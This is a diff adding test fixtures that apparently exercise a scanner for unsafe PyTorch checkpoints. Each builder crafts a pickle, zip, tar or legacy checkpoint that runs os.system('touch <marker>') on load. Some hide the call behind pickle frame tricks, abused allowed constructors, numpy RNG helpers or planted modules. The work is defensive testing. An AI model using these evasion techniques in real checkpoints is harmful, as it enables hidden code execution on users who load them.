@@ -114,3 +114,390 @@ def build_tree(root, files: dict[str, str]):
     for seed, (relative, kind) in enumerate(files.items()):
         KINDS[kind](os.path.join(str(root), relative), seed)
     return root
+
+
+# --- Attack files for issue 19, by technique ----------------------------------------------------
+# Each builder writes a file at ``path`` that would run ``touch <marker>`` (or import a module
+# whose top level does) under torch.load(weights_only=False), and returns the path. They are
+# written by hand from the techniques; tests/stub_unpickler.py shows CPython reaching each call.
+
+import contextlib  # noqa: E402
+import copyreg  # noqa: E402
+import io  # noqa: E402
+import pickle  # noqa: E402
+import struct  # noqa: E402
+import sys  # noqa: E402
+import tarfile  # noqa: E402
+import types  # noqa: E402
+import zipfile  # noqa: E402
+
+LEGACY_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
+LEGACY_PROTOCOL_VERSION = 1001
+LEGACY_SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
+FOREIGN_MODULE = "trainlib"  # a training repo's own module: importing it runs its top level
+
+
+def payload_command(marker) -> str:
+    return f"touch {marker}"
+
+
+def write_payload_module(directory, module: str, marker) -> str:
+    """``<directory>/<module>.py`` whose import runs the payload: what torch.load, started in that
+    folder, would import for a pickle naming ``module``."""
+    path = os.path.join(str(directory), f"{module}.py")
+    with open(path, "w") as f:
+        f.write(f"import os\nos.system({payload_command(marker)!r})\n\n"
+                "class _Any:\n    def __init__(self, *a, **k): os.system('true')\n"
+                "    def __iter__(self): return iter(())\n\n"
+                "RunConfig = Rows = Registry = Stateful = Gen = _Any\n"
+                "def _rebuild_tensor_v2(*a): return None\n")
+    return path
+
+
+def _op_str(text: str) -> bytes:
+    """BINUNICODE ``text``."""
+    raw = text.encode("utf-8")
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def _frame(length: int) -> bytes:
+    return b"\x95" + struct.pack("<Q", length)
+
+
+def _call_bytes(module: str, name: str, arg: str) -> bytes:
+    """``module.name(arg)`` as protocol-0 opcodes (printable ASCII: a string can hold them)."""
+    return f"c{module}\n{name}\n(V{arg}\ntR".encode("ascii")
+
+
+class _RunConfig:
+    def __init__(self, lr=0.02, batch=8):
+        self.lr, self.batch = lr, batch
+
+
+class _Rows:
+    def __init__(self, rows=(("a", 1),)):
+        self.rows = list(rows)
+
+    def __iter__(self):
+        return iter(self.rows)
+
+
+class _Registry(dict):
+    pass
+
+
+class _Stateful:
+    def __init__(self):
+        self.step = 1
+
+    def __reduce__(self):  # the protocol-0/1 way: copyreg._reconstructor, then BUILD
+        return copyreg._reconstructor, (type(self), object, None), {"step": self.step}
+
+
+class _Gen:
+    pass
+
+
+@contextlib.contextmanager
+def posing_as(module: str, *classes):
+    """While pickling: ``classes`` look like they live in ``module`` (``__main__`` or a module that
+    only exists on the victim's machine), so pickle names them there."""
+    saved = [(c, c.__module__, c.__qualname__) for c in classes]
+    main = module == "__main__"
+    if not main and module in sys.modules:
+        raise ValueError(f"{module} is a real module here")
+    target = sys.modules["__main__"] if main else types.ModuleType(module)
+    for cls in classes:
+        cls.__module__, cls.__qualname__ = module, cls.__name__.lstrip("_")
+        setattr(target, cls.__qualname__, cls)
+    if not main:
+        sys.modules[module] = target
+    try:
+        yield
+    finally:
+        for cls, mod, qual in saved:
+            with contextlib.suppress(AttributeError):
+                delattr(target, cls.__qualname__)
+            cls.__module__, cls.__qualname__ = mod, qual
+        if not main:
+            sys.modules.pop(module, None)
+
+
+def _save(obj, path, protocol: int = 2) -> str:
+    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
+    torch.save(obj, str(path), pickle_protocol=protocol)
+    return str(path)
+
+
+def _small_model() -> dict:
+    return {"embed.weight": torch.arange(6, dtype=torch.float32).view(2, 3), "head.bias": torch.ones(2)}
+
+
+def _saved_pickle(obj) -> tuple[bytes, dict[str, bytes]]:
+    """torch.save's data.pkl of ``obj`` and its other entries (name -> bytes)."""
+    buf = io.BytesIO()
+    torch.save(obj, buf)
+    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
+        entries = {n: z.read(n) for n in z.namelist()}
+    name = next(n for n in entries if n.endswith("/data.pkl"))
+    return entries.pop(name), {"data.pkl": name, **entries}
+
+
+def write_zip_checkpoint(path, pkl: bytes, entries: dict[str, bytes], compress_pickle: bool = False) -> str:
+    """A torch.save zip (entries as torch wrote them) whose data.pkl is ``pkl``, optionally DEFLATED."""
+    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
+    pkl_name = entries["data.pkl"]
+    with zipfile.ZipFile(str(path), "w") as z:
+        z.writestr(zipfile.ZipInfo(pkl_name), pkl,
+                   compress_type=zipfile.ZIP_DEFLATED if compress_pickle else zipfile.ZIP_STORED)
+        for name, data in entries.items():
+            if name != "data.pkl":
+                z.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_STORED)
+    return str(path)
+
+
+def _spliced(pkl: bytes, segment: bytes) -> bytes:
+    """torch.save's pickle of a dict with one more item: ``segment`` pushes MARK, keys and values
+    (SETITEMS follows), placed just before the STOP."""
+    assert pkl.endswith(b".")
+    return pkl[:-1] + segment + b"u."
+
+
+# -- frames: what CPython's C unpickler reads from a BytesIO, not what a frame-blind reader sees
+
+def frame_hidden_string_segment(command: str) -> bytes:
+    """A string whose argument straddles its frame's end: the C unpickler drops the rest of the
+    frame and takes the string from after it, then runs the opcodes that a frame-blind reader
+    (pickletools.genops) reads as a second string. Pushes MARK 'note' <str> <call result> 'done'."""
+    hidden = _call_bytes("posix", "system", command)
+    if len(hidden) >= 128:
+        raise ValueError("command too long for a one-byte UTF-8 length")
+    tail = b"hello"  # the frame's last 5 bytes: dropped by C, read as text by a frame-blind reader
+    after = b"a checkpoint note " + b"X" + struct.pack("<I", len(hidden))
+    frame = b"\x8c\x04note" + b"\x8c" + bytes([len(after)]) + tail
+    return b"(" + _frame(len(frame)) + frame + after + hidden + b"\x8c\x04done"
+
+
+def frame_restarted_segment(command: str) -> bytes:
+    """A FRAME opcode before the current frame is used up, declaring more than is left: the C
+    unpickler drops the rest of the first frame (a BINUNICODE header to a frame-blind reader) and
+    runs the call as the new frame. Pushes MARK 'note' <call result>."""
+    hidden = _call_bytes("posix", "system", command)
+    second = hidden
+    first = b"\x8c\x04note" + _frame(len(second)) + b"X" + struct.pack("<I", len(hidden))
+    return b"(" + _frame(len(first)) + first + second
+
+
+def frame_split_global(pkl: bytes, module: str = "torch._", rest: str = "utils") -> bytes:
+    """Insert one FRAME before the first ``GLOBAL 'torch._utils ...'`` that ends inside the module
+    line: the C unpickler reads the line again from after the frame and imports ``utils`` (the
+    training repo's utils.py), while a frame-blind reader sees ``torch._utils`` as before."""
+    needle = f"c{module}{rest}\n".encode()
+    at = pkl.index(needle)
+    covered = 1 + len(module)  # 'c' and the first part of the module name
+    return pkl[:at] + _frame(covered) + pkl[at:]
+
+
+def frame_attack(path, marker, technique: str = "string") -> str:
+    """A real torch.save checkpoint whose pickle hides ``posix.system`` (or an import of utils.py)
+    behind frame boundaries, by ``technique``: "string", "restart" or "global line"."""
+    pkl, entries = _saved_pickle({"model": _small_model(), "step": 100})
+    if technique == "string":
+        pkl = _spliced(pkl, frame_hidden_string_segment(payload_command(marker)))
+    elif technique == "restart":
+        pkl = _spliced(pkl, frame_restarted_segment(payload_command(marker)))
+    elif technique == "global line":
+        write_payload_module(os.path.dirname(os.path.abspath(str(path))), "utils", marker)
+        pkl = frame_split_global(pkl)
+    else:
+        raise ValueError(technique)
+    return write_zip_checkpoint(path, pkl, entries)
+
+
+# -- instances of classes the real unpickler imports, builds, fills or passes on
+
+def foreign_instance(path, marker) -> str:
+    """A config object of a class from the training repo's module: torch.load imports it."""
+    write_payload_module(os.path.dirname(os.path.abspath(str(path))), FOREIGN_MODULE, marker)
+    with posing_as(FOREIGN_MODULE, _RunConfig):
+        return _save({"model": _small_model(), "config": _RunConfig()}, path)
+
+
+def build_on_instance(path, marker, main: bool = False) -> str:
+    """An instance created by copyreg._reconstructor and given state by BUILD: its class's
+    __setstate__ runs (and its module is imported unless it is __main__)."""
+    module = "__main__" if main else FOREIGN_MODULE
+    if not main:
+        write_payload_module(os.path.dirname(os.path.abspath(str(path))), module, marker)
+    with posing_as(module, _Stateful):
+        return _save({"model": _small_model(), "state": _Stateful()}, path)
+
+
+CONTAINERS = {
+    "Counter": lambda x: Call(collections.Counter, x),
+    "OrderedDict": lambda x: Call(collections.OrderedDict, x),
+    "defaultdict": lambda x: Call(collections.defaultdict, None, x),
+    "set": lambda x: Call(set, x),
+    "copyreg._reconstructor": lambda x: Call(copyreg._reconstructor, list, list, x),
+}
+
+
+def container_from_instance(path, marker, container: str = "Counter", via: str = "class") -> str:
+    """``Counter(x)``, ``OrderedDict(x)``, ``defaultdict(None, x)``, ``set(x)`` or
+    ``copyreg._reconstructor(list, list, x)``: allowed constructors that iterate ``x``. ``via``:
+    "class" (x of the training repo's class: an import), "main" (x a __main__ record: its
+    __iter__ runs) or "map" (x = map(posix.system, iter([command])): iterating it is the call)."""
+    if via == "map":
+        x = map(os.system, iter([payload_command(marker)]))
+        return _save({"model": _small_model(), "rows": CONTAINERS[container](x)}, path)
+    module = "__main__" if via == "main" else FOREIGN_MODULE
+    if via == "class":
+        write_payload_module(os.path.dirname(os.path.abspath(str(path))), module, marker)
+    with posing_as(module, _Rows):
+        return _save({"model": _small_model(), "rows": CONTAINERS[container](_Rows())}, path)
+
+
+def setitem_on_instance(path, marker, main: bool = False) -> str:
+    """A dict subclass's instance filled by SETITEMS: its own __setitem__ runs."""
+    module = "__main__" if main else FOREIGN_MODULE
+    if not main:
+        write_payload_module(os.path.dirname(os.path.abspath(str(path))), module, marker)
+    with posing_as(module, _Registry):
+        registry = _Registry()
+        registry["lr"] = 0.1
+        return _save({"model": _small_model(), "registry": registry}, path)
+
+
+def numpy_ctor_attack(path, marker, technique: str = "randomstate") -> str:
+    """numpy's RNG unpickling helpers given what they call: ``__randomstate_ctor(command,
+    posix.system)`` / ``__generator_ctor(command, posix.system)`` call their second argument with
+    the first; ``__bit_generator_ctor(cls)`` instantiates any class ("class": the training
+    repo's, "main": a __main__ class)."""
+    from numpy.random import _pickle as np_pickle
+    ctor = {"randomstate": "__randomstate_ctor", "generator": "__generator_ctor"}
+    if technique in ctor:
+        value = Call(getattr(np_pickle, ctor[technique]), payload_command(marker), os.system)
+        return _save({"model": _small_model(), "rng": value}, path)
+    module = "__main__" if technique == "main" else FOREIGN_MODULE
+    if technique == "class":
+        write_payload_module(os.path.dirname(os.path.abspath(str(path))), module, marker)
+    with posing_as(module, _Gen):
+        return _save({"model": _small_model(), "rng": Call(np_pickle.__bit_generator_ctor, _Gen)}, path)
+
+
+# -- containers torch.load reads besides the zip of data.pkl and data/<key>
+
+def raw_pickle_attack(path, marker, protocol: int = 0) -> str:
+    """Not a zip: a bare pickle (first byte 'c', '(', '}'...): torch.load's legacy path unpickles it."""
+    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
+    with open(path, "wb") as f:
+        f.write(pickle.dumps({"model": {}, "x": Call(os.system, payload_command(marker))}, protocol=protocol))
+    return str(path)
+
+
+class _StorageRef:
+    """Stands for storage '0' while pickling a legacy object (its persistent id)."""
+
+
+class _LegacyPickler(pickle.Pickler):
+    def persistent_id(self, obj):
+        if isinstance(obj, _StorageRef):
+            return ("storage", torch.FloatStorage, "0", "cpu", 4, None)
+        return None
+
+
+def legacy_file(path, marker=None, payload_in: int | None = 5) -> str:
+    """A pre-1.6 torch.save file: magic number, protocol 1001, system info, the object (a float
+    tensor of 4 elements in storage '0'), the list of storage keys, then the storage bytes.
+    ``payload_in``: which of the five pickles (1-5) holds the call; None for an honest file."""
+    tensor = Call(torch._utils._rebuild_tensor_v2, _StorageRef(), 0, (4,), (1,), False, collections.OrderedDict())
+    parts: list = [LEGACY_MAGIC_NUMBER, LEGACY_PROTOCOL_VERSION, LEGACY_SYS_INFO, {"model": {"w": tensor}}, ["0"]]
+    if payload_in is not None:
+        call = Call(os.system, payload_command(marker))
+        parts[payload_in - 1] = [call] if payload_in == 5 else (parts[payload_in - 1], call)
+    out = io.BytesIO()
+    for i, part in enumerate(parts):
+        if i == 3:
+            _LegacyPickler(out, protocol=2).dump(part)
+        else:
+            out.write(pickle.dumps(part, protocol=2))
+    out.write(struct.pack("<q", 4) + struct.pack("<4f", 1.0, 2.0, 3.0, 4.0))
+    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
+    with open(path, "wb") as f:
+        f.write(out.getvalue())
+    return str(path)
+
+
+def compressed_pickle_checkpoint(path, marker=None) -> str:
+    """A torch.save zip whose data.pkl entry is DEFLATED (torch's reader inflates it), with a
+    ``posix.system`` call in it (an honest one when ``marker`` is None)."""
+    obj = {"model": _small_model(), "step": 100}
+    if marker is not None:
+        obj["x"] = Call(os.system, payload_command(marker))
+    pkl, entries = _saved_pickle(obj)
+    return write_zip_checkpoint(path, pkl, entries, compress_pickle=True)
+
+
+def tar_file(path, marker=None, payload_in: str = "pickle") -> str:
+    """The oldest torch.save format: a tar of ``sys_info``, ``pickle`` (the object),
+    ``tensors`` and ``storages`` (no tensors or storages here), with a ``posix.system`` call in
+    member ``payload_in`` (an honest file when ``marker`` is None)."""
+    members = {
+        "sys_info": pickle.dumps(LEGACY_SYS_INFO, protocol=2),
+        "pickle": pickle.dumps({"step": 100, "lr": 0.1}, protocol=2),
+        "tensors": pickle.dumps(0, protocol=2),
+        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
+    }
+    if marker is not None:
+        call = Call(os.system, payload_command(marker))
+        if payload_in == "pickle":
+            members["pickle"] = pickle.dumps({"step": 100, "x": call}, protocol=2)
+        else:  # the member's first pickle is a count: os.system's exit status 0 serves as one
+            count = len(pickle.dumps(0, protocol=2))
+            members[payload_in] = pickle.dumps(call, protocol=2) + members[payload_in][count:]
+    os.makedirs(os.path.dirname(os.path.abspath(str(path))), exist_ok=True)
+    with tarfile.open(str(path), "w:", format=tarfile.PAX_FORMAT) as tar:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return str(path)
+
+
+_DOTTED = {"Counter": "collections.Counter", "OrderedDict": "collections.OrderedDict",
+           "defaultdict": "collections.defaultdict", "set": "builtins.set"}
+
+# Every attack above, by name: (builder, the name its reason must give, or a tuple of names any
+# of which will do: a __main__ record, or the allowed callable it is passed to). Each is called
+# as builder(path, marker).
+ATTACKS = {
+    "frame: string straddles the frame end": (lambda p, m: frame_attack(p, m, "string"), "posix.system"),
+    "frame: new frame before the last is used up": (lambda p, m: frame_attack(p, m, "restart"), "posix.system"),
+    "frame: GLOBAL line straddles the frame end": (lambda p, m: frame_attack(p, m, "global line"),
+                                                   "utils._rebuild_tensor_v2"),
+    "instance of a foreign class": (foreign_instance, f"{FOREIGN_MODULE}.RunConfig"),
+    "BUILD on a foreign instance": (build_on_instance, f"{FOREIGN_MODULE}.Stateful"),
+    **{f"{c}(foreign instance)": (lambda p, m, c=c: container_from_instance(p, m, c, "class"),
+                                  f"{FOREIGN_MODULE}.Rows") for c in CONTAINERS},
+    **{f"{c}(__main__ record)": (lambda p, m, c=c: container_from_instance(p, m, c, "main"),
+                                 ("__main__.Rows", _DOTTED.get(c, c))) for c in CONTAINERS},
+    **{f"{c}(map(posix.system, ...))": (lambda p, m, c=c: container_from_instance(p, m, c, "map"), "builtins.map")
+       for c in CONTAINERS},
+    "SETITEMS on a foreign dict subclass": (setitem_on_instance, f"{FOREIGN_MODULE}.Registry"),
+    "SETITEMS on a __main__ dict subclass": (lambda p, m: setitem_on_instance(p, m, main=True), "__main__.Registry"),
+    "numpy __randomstate_ctor(command, posix.system)": (lambda p, m: numpy_ctor_attack(p, m, "randomstate"),
+                                                        "posix.system"),
+    "numpy __generator_ctor(command, posix.system)": (lambda p, m: numpy_ctor_attack(p, m, "generator"),
+                                                      "posix.system"),
+    "numpy __bit_generator_ctor(foreign class)": (lambda p, m: numpy_ctor_attack(p, m, "class"),
+                                                  f"{FOREIGN_MODULE}.Gen"),
+    "numpy __bit_generator_ctor(__main__ class)": (lambda p, m: numpy_ctor_attack(p, m, "main"),
+                                                   ("__main__.Gen", "numpy.random._pickle.__bit_generator_ctor")),
+    "raw protocol-0 pickle": (lambda p, m: raw_pickle_attack(p, m, 0), "posix.system"),
+    "raw protocol-1 pickle": (lambda p, m: raw_pickle_attack(p, m, 1), "posix.system"),
+    "legacy file, call in the storage keys (5th pickle)": (lambda p, m: legacy_file(p, m, 5), "posix.system"),
+    "legacy file, call in the system info (3rd pickle)": (lambda p, m: legacy_file(p, m, 3), "posix.system"),
+    "zip with data.pkl DEFLATED": (compressed_pickle_checkpoint, "posix.system"),
+    "tar format, call in pickle": (tar_file, "posix.system"),
+    "tar format, call in storages": (lambda p, m: tar_file(p, m, "storages"), "posix.system"),
+}
